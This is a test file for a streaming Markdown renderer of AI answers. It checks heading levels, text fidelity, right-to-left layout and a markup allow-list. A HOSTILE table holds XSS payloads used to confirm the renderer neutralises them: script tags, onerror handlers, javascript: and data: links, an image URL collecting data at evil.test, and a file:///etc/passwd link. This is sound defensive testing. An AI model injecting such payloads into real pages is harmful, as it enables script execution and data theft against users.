import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { Markdown } from './markdown.tsx';
import { AnswerReader, readMarkdown } from './parse/read-answer.ts';

const render = (text: string, streaming: boolean): string =>
  renderToStaticMarkup(<Markdown text={text} streaming={streaming} />);

const ALLOWED_TAGS = new Set(
  'div h3 h4 h5 h6 p strong em s code pre figure figcaption span button svg path rect ul ol li table thead tbody tr th td blockquote hr br a sup bdi'.split(
    ' ',
  ),
);
const ALLOWED_ATTRIBUTES = new Set(
  'class dir role aria-level aria-label aria-hidden title data-tip type tabindex scope start value href target rel width height viewBox fill stroke stroke-width stroke-linecap stroke-linejoin xmlns d x y rx ry'.split(
    ' ',
  ),
);

/** Tags, attributes and URLs in the markup that are not on the allow-list. */
function findHoles(markup: string): string[] {
  const holes: string[] = [];
  for (const [, tag = '', attributes = ''] of markup.matchAll(/<([a-zA-Z][^\s/>]*)((?:"[^"]*"|[^">])*)>/g)) {
    if (!ALLOWED_TAGS.has(tag)) holes.push(`<${tag}>`);
    for (const [, name = '', value = ''] of attributes.matchAll(/([^\s=/"]+)(?:="([^"]*)")?/g)) {
      if (!ALLOWED_ATTRIBUTES.has(name)) holes.push(`${tag}[${name}]`);
      if (name === 'href' && !/^(?:https:\/\/|mailto:)/.test(value)) holes.push(`href ${value}`);
    }
  }
  return holes;
}

const HOSTILE = {
  script: 'a <script>alert(1)</script> b',
  'image tag': 'a <img src="https://evil.test/x.png" onerror=alert(1)> b',
  'remote image': 'look ![secret](https://evil.test/collect?d=1 "t") here',
  'image by reference': '![x][pic]\n\n[pic]: https://evil.test/pic.png',
  'javascript link': '[click](javascript:alert(1)) and [again](JaVaScRiPt:alert(1))',
  'javascript link with control characters':
    '[click](java\u0000script:alert(1)) [b](\u0001javascript:alert(1)) [c](java\tscript:alert(1))',
  'javascript link by entity': '[click](&#106;avascript:alert(1)) [d](javascript&colon;alert(1))',
  'data link': '[x](data:text/html;base64,PHNjcmlwdD4=)',
  'vbscript, file and http links':
    '[a](vbscript:x) [b](file:///etc/passwd) [c](http://plain.test) [d](//evil.test) [e](/admin) [f](#x)',
  'link with credentials': '[bank](https://bank.test@evil.test/)',
  'link by reference': '[click][1]\n\n[1]: javascript:alert(1)',
  autolink: '<javascript:alert(1)> <https://ok.test/"onmouseover="alert(1)>',
  svg: '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  style: '<style>body{display:none}</style><p style="position:fixed">x</p>',
  form: '<form action="https://evil.test"><input name=a><button>go</button></form>',
  iframe: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'attribute break-out in a title': '[x](https://ok.test "a\\" onmouseover=\\"alert(1)")',
  'attribute break-out in a fence': '```js" onclick="alert(1)\ncode\n```',
  'fence title': '```js title="<img src=x onerror=alert(1)>"\ncode\n```',
  'html in a table': '| a | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  'html comment': '<!-- <img src=x onerror=alert(1)> -->',
  'component comment': '<!-- ::start:tabs -->\n<script>alert(1)</script>\n<!-- ::end:tabs -->',
  footnote: 'a[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))',
  'nested emphasis': '**[*x*](javascript:alert(1))** ~~<b onclick=alert(1)>~~',
  frontmatter: '---\ntitle: <script>\n---\n<script>alert(1)</script>',
} as const;

describe('headings of an answer', () => {
  const levelsOf = (text: string, streaming = false) =>
    [...render(text, streaming).matchAll(/<h([1-6])/g)].map(([, level]) => Number(level));

  test.each([
    ['begin below the article’s own, whatever the model chose', '### First\n\ntext\n\n#### Below it', [3, 4]],
    ['skip no level', '# One\n\n##### Far below', [3, 4]],
    ['of the same depth have the same level', '### A\n\n### B\n\n#### C\n\n### D', [3, 3, 4, 3]],
    ['return to the first level above the first one', '#### A\n\n## B\n\n### C', [3, 3, 4]],
    ['in quotes and lists follow those above', '## A\n\n> ### B\n\n- #### C', [3, 4, 5]],
    ['go no deeper than there are levels', '# A\n\n## B\n\n### C\n\n#### D\n\n##### E', [3, 4, 5, 6, 6]],
  ])('%s (U42)', (_title, text, levels) => {
    expect(levelsOf(text)).toEqual(levels);
    expect(levelsOf(text, true)).toEqual(levels);
  });

  test('keep the size that the model chose', () => {
    expect(render('### Small', false)).toMatch(/<h3[^>]*text-answer/);
    expect(render('# Large', false)).toMatch(/<h3[^>]*text-title/);
  });
});

describe('model text renders only allow-listed markup (R32)', () => {
  test.each(Object.entries(HOSTILE))('%s, at every chunk boundary', (_name, source) => {
    for (let length = 1; length <= source.length; length++) {
      const part = source.slice(0, length);
      expect({ part, holes: findHoles(render(part, true)) }).toEqual({ part, holes: [] });
      expect({ part, holes: findHoles(render(part, false)) }).toEqual({ part, holes: [] });
    }
  });

  test('findHoles finds disallowed markup', () => {
    expect(findHoles('<p><img src="https://x.test/y.png"><a href="javascript:x" onclick="y">z</a></p>')).toEqual([
      '<img>',
      'img[src]',
      'href javascript:x',
      'a[onclick]',
    ]);
  });

  test('shows raw HTML as text', () => {
    expect(render('a <b>c</b>', false)).toContain('a &lt;b&gt;c&lt;/b&gt;');
  });

  test('renders an image as a link, without a request', () => {
    const markup = render('![chart](https://ok.test/c.png)', false);
    expect(markup).toContain('href="https://ok.test/c.png"');
    expect(markup).toContain('>chart</a>');
  });

  test('opens links in a new tab without a referrer', () => {
    const markup = render('[a](https://ok.test) [b](mailto:a@ok.test)', false);
    expect(markup.match(/rel="noopener noreferrer nofollow"/g)).toHaveLength(2);
    expect(markup.match(/target="_blank"/g)).toHaveLength(2);
  });
});

const ANSWER = `Here is a **bold \`code\`** word, *soft*, ~~gone~~ and a [link](https://ok.test/a_b).

## Steps to \`take\`

1. **First** thing
2. Second
   - inner *one*
   - inner two

| Part | **Count** |
| :--- | ---: |
| \`P-1\` | 2 |

\`\`\`ts
const a = 1 ** 2;
\`\`\`

> A *quoted* line

- [x] done
- [ ] open

***Both*** and __also__ end.`;

/** The visible text outside code. */
const visible = (markup: string): string =>
  markup
    .replace(/<(pre|code)\b[^>]*>.*?<\/\1>/gs, '')
    .replace(/<[^>]+>/g, ' ')
    .replace(/&gt;/g, '>');

describe('a streaming answer shows no raw markers (U15)', () => {
  test('at any chunk boundary', () => {
    for (let length = 1; length <= ANSWER.length; length++) {
      const part = ANSWER.slice(0, length);
      const raw = /\*|`|~~|__|\]\(|\||#|\[|(?:^|\s)>/.exec(visible(render(part, true)));
      expect({ part, raw: raw?.[0] ?? null }).toEqual({ part, raw: null });
    }
  });

  test('renders every kind of block', () => {
    const markup = render(ANSWER, false);
    for (const piece of [
      '<strong',
      '<em>',
      '<s>',
      '<h3',
      '<ol',
      '<ul',
      '<table',
      '<pre',
      '<blockquote',
      'aria-label="Done:"',
      'aria-label="Open:"',
    ]) {
      expect(markup).toContain(piece);
    }
  });

  test('keeps literal markers in a finished answer', () => {
    expect(render('2 * 3 and a_b and 100 % #1', false)).toContain('2 * 3 and a_b and 100 % #1');
  });
});

/** The text that a reader sees, without what the product adds. */
const textOf = (markup: string): string =>
  markup
    .replace(/<figcaption.*?<\/figcaption>/gs, (caption) => caption.replace(/<button.*?<\/button>/gs, ''))
    .replace(/<br\/>/g, '\n')
    .replace(/<[^>]+>/g, '')
    .replace(/&quot;/g, '"')
    .replace(/&#x27;/g, "'")
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');

const shown = (text: string): string => textOf(render(text, false));

describe('text keeps what was said (U49)', () => {
  test.each([
    ['10 * 20 * 30 mm', '10 * 20 * 30 mm'],
    ['10*20*30 mm', '10*20*30 mm'],
    ['*10*20*30* mm', '10*20*30 mm'],
    ['2**10 and 3**4', '2**10 and 3**4'],
    ['a = (b)*(c)*(d)', 'a = (b)*(c)*(d)'],
    ['f(*args, **kwargs) and *.ts, *.js', 'f(*args, **kwargs) and *.ts, *.js'],
    ['from ~5 mm to ~8 mm, 5~10 and 3~4', 'from ~5 mm to ~8 mm, 5~10 and 3~4'],
    ['get_bom_of_item', 'get_bom_of_item'],
    ['America/Los\\_Angeles', 'America/Los_Angeles'],
    ['C:\\temp\\new and \\\\server', 'C:\\temp\\new and \\server'],
    ['a <b>c</b> <!-- d --> <x-y z="1"> 1 < 2', 'a <b>c</b> <!-- d --> <x-y z="1"> 1 < 2'],
    ['<div>\n**bold**\n</div>', '<div>\nbold\n</div>'],
    [':::note\ntext\n:::', ':::note\ntext\n:::'],
    ['---\ntitle: x\n---', 'title: x'],
    ['[text][nowhere] and a[0][1] and [x]', '[text][nowhere] and a[0][1] and [x]'],
    ['no note[^1] here', 'no note[^1] here'],
    ['[plain](http://intranet.local/x)', '[plain](http://intranet.local/x)'],
    ['![pic](http://intranet.local/x.png)', '![pic](http://intranet.local/x.png)'],
    ['&deg;C &times; &amp;amp; &bogus; &#8364;', '°C × &amp; &bogus; €'],
    ['```python main.py\nx\n```', 'python main.pyx'],
    ['| a |\n| - |\n| b | c | d |', 'abcd'],
    ['| `a\\|b` |\n| - |', 'a|b'],
    ['$5 and $10', '$5 and $10'],
    ['costs $5-$10 or US$20, A$30 and $5/$6', 'costs $5-$10 or US$20, A$30 and $5/$6'],
    ['$HOME and $PATH, $1 or 2$', '$HOME and $PATH, $1 or 2$'],
    ['escaped \\[brackets\\] and \\(see note 5\\)', 'escaped [brackets] and (see note 5)'],
    ['**「重要」**です。これは**太字**です', '「重要」です。これは太字です'],
  ])('%j', (source, text) => {
    expect(shown(source)).toBe(text);
  });

  test('keeps list numbers as written', () => {
    const markup = render('3. c\n4. d\n7. g\n8. h', false);
    expect(markup).toContain('start="3"');
    expect([...markup.matchAll(/value="(\d+)"/g)].map((match) => match[1])).toEqual(['7', '8']);
  });

  test('shares link and footnote definitions between all blocks', () => {
    const source =
      'See [the guide][g], [G] and this[^n].\n\nMore text.\n\n[g]: https://ok.test/g "Guide"\n[^n]: The *note*.\n\n    Its second paragraph.';
    const markup = render(source, false);
    expect(markup.match(/href="https:\/\/ok\.test\/g"/g)).toHaveLength(2);
    expect(textOf(markup)).toBe('See the guide, G and thisn.More text.nThe note.Its second paragraph.');
  });

  test('shows a definition that no link uses', () => {
    expect(shown('Sources:\n\n[1]: https://ok.test/a "A"')).toBe('Sources:[1]: https://ok.test/a "A"');
    expect(shown('`[1]`\n\n[1]: https://ok.test/a')).toBe('[1][1]: https://ok.test/a');
  });

  test.each([
    '\\(A = \\pi r^2\\)',
    '\\[E = mc^2\\]',
    '$$x_1 + x_2$$',
    '$x$',
    '$a^2 + b^2 = c^2$',
    '$$\n\\frac{a}{b}\n$$',
  ])('shows the formula %j as written until it is typeset', (source) => {
    expect(shown(`${source}`)).toBe(source);
    expect(shown(`Area: ${source.replaceAll('\n', ' ')} here`)).toBe(`Area: ${source.replaceAll('\n', ' ')} here`);
  });
});

const PIECES = [
  ...ANSWER.split('\n\n'),
  ...Object.values(HOSTILE).filter((source) => !/\]\(|\]:|```|&/.test(source)),
  '10 * 20 * 30 mm, 5*3*2 and 2**8',
  'a[^1] and [link][ref] and [ref]',
  '[ref]: https://ok.test/ref',
  '[^1]: note with `code`',
  '[unused]: https://ok.test/unused',
  '\\(A = \\pi r^2\\) and \\[x\\]',
  '$$\na_1 * b_1\n\n= 5\n$$',
  '$$ never closed',
  'prices $5 and $10 and $x$',
  '<details>\n<summary>More</summary>\n\ntext\n</details>',
  '- a\n\n      code\n- b\n  1. c\n  2. d',
  '1. x\n3. y',
  'كتلة القطعة 12 kg والطول -5 mm',
  '详见https://ok.test/a。请**确认「x」**后继续',
  'Setext\n---',
  '| a | b |\n| - | - |\n| 1 | 2 | 3 |\n| `x` |',
  '> quote\n> - item\n\n> more',
  'half **open and `code and [link](https://ok',
];

function generator(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
    return state / 2_147_483_648;
  };
}

const documents = (count: number, seed: number): string[] => {
  const random = generator(seed);
  const pick = (): string => PIECES[Math.floor(random() * PIECES.length)] ?? '';
  return Array.from({ length: count }, () => Array.from({ length: 5 }, pick).join(random() < 0.7 ? '\n\n' : '\n'));
};

const words = (text: string): string[] => text.match(/[\p{L}\p{N}]+/gu) ?? [];

/** Where a word may be besides in the text: in the address of a link, the number of an item or a mark of a task. */
const inMarkup = (markup: string): string =>
  [...markup.matchAll(/ (?:href|start|value|aria-label)="([^"]*)"/g)].map((match) => match[1]).join(' ');

describe('generated answers (U49)', () => {
  test('every word of the source is in the rendered text', () => {
    for (const source of documents(400, 11)) {
      const markup = render(source, false);
      const present = new Set(words(`${textOf(markup.replace(/<[^>]+>/g, ' $& '))} ${inMarkup(markup)}`));
      const text = `${textOf(markup)} ${inMarkup(markup)}`;
      // A task's x, a language, the label of a link and a list's number are syntax.
      const missing = words(source).filter(
        (word) => !present.has(word) && !text.includes(word) && !/^(?:x|ref|\d+)$/.test(word),
      );
      expect({ source, missing }).toEqual({ source, missing: [] });
    }
  });

  test('streaming in any cut ends in the same nodes as reading it whole', () => {
    const random = generator(5);
    for (const source of documents(150, 23)) {
      const reader = new AnswerReader();
      for (let length = 0; length < source.length; length += 1 + Math.floor(random() * 9)) {
        reader.read(source.slice(0, length), true);
      }
      const streamed = reader.read(source, false).flatMap((block) => block.nodes);
      expect({ source, nodes: streamed }).toEqual({ source, nodes: readMarkdown(source) });
    }
  });

  test('blocks before the last keep their nodes while text arrives (U16)', () => {
    const source = `${ANSWER}\n\nLast paragraph, with more words.`;
    const reader = new AnswerReader();
    const before = reader.read(source.slice(0, -6), true);
    const after = reader.read(source, true);
    expect(after.length).toBe(before.length);
    for (let at = 0; at < before.length - 1; at++) expect(after[at]).toBe(before[at]);
  });

  test('a definition that arrives changes only the blocks with brackets', () => {
    const reader = new AnswerReader();
    const before = reader.read('Plain.\n\nSee [a].\n\nLast', true);
    const after = reader.read('Plain.\n\nSee [a].\n\nLast\n\n[a]: https://ok.test\n', true);
    expect(after[0]).toBe(before[0]);
    expect(after[1]).not.toBe(before[1]);
  });
});

describe('each block has its own direction (U47)', () => {
  test('sets it on every kind of block', () => {
    const markup = render(
      'Latin first.\n\nالفقرة العربية 12 kg.\n\n- عنصر\n- item\n\n# عنوان\n\n| قيمة | b |\n| - | - |\n| c | د |\n\n> اقتباس',
      false,
    );
    expect(markup.match(/<p dir="auto"/g)).toHaveLength(3);
    expect(markup).toMatch(/<ul dir="rtl"/);
    expect(markup).toMatch(/<li dir="rtl"/);
    expect(markup).toMatch(/<li dir="ltr"/);
    expect(markup).toMatch(/<h3 dir="auto"/);
    expect(markup.match(/<t[hd] [^>]*dir="auto"/g)).toHaveLength(4);
    expect(markup).toMatch(/<blockquote dir="rtl"/);
  });

  test.each([
    ['الوزن 12 kg فقط', '12 kg'],
    ['الأبعاد 10 × 20 × 30 mm هنا', '10 × 20 × 30 mm'],
    ['الحرارة -5 °C الآن', '-5 °C'],
    ['بين 5-10 أيام', '5-10'],
    ['بنسبة 3.5% تقريبا', '3.5%'],
    ['משקל 12 kg per item בלבד', '12 kg per item'],
  ])('keeps the quantity in %j in reading order', (source, quantity) => {
    expect(render(source, false)).toContain(`<bdi dir="ltr">${quantity}</bdi>`);
  });

  test.each(['برغي M8 x 20 mm', 'Weight 12 kg', 'في عام 2026'])('leaves %j as it is', (source) => {
    expect(render(source, false)).not.toContain('<bdi');
  });
});
